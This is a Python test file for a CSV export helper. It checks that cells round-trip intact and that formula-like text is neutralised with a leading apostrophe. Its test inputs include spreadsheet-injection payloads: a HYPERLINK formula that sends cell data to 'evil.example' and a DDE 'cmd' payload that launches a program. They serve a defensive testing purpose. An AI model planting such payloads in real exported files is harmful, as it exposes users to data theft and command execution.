"""A table as CSV says what it was given, and a spreadsheet reckons nothing of it out."""

import csv
import io

import pytest

from plugins.core.text.spreadsheet import csv_text


def read(text: str) -> list[list[str]]:
    """Return a CSV text as a program reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_words_come_out_as_they_went_in() -> None:
    """Commas, quotation marks, breaks and other scripts part no cell; what is not there is empty."""
    words = 'He said "5%, 4%"\r\nand left; ünïcode 파업'
    text = csv_text(("a", "b", "n"), [(words, None, 3), ("", "x", "")])
    assert read(text) == [["a", "b", "n"], [words, "", "3"], ["", "x", ""]]
    assert text.startswith("a,b,n\r\n")
    assert text.endswith("\r\n")


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+1 555",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
    ],
)
def test_no_cell_is_a_formula(words: str) -> None:
    """What a spreadsheet would reckon out begins with an apostrophe, and has its words behind it."""
    (cell,) = read(csv_text(("a",), [(words,)]))[1]
    assert cell == f"'{words}"


@pytest.mark.parametrize("words", ["5% = much", "–5%", "a-b", "'quoted'", "2026-01-05", ""])
def test_other_words_are_left_alone(words: str) -> None:
    """A sign within a text, a dash that is no minus, a day: no apostrophe is put before them."""
    assert read(csv_text(("a", "b"), [(words, "x")]))[1] == [words, "x"]
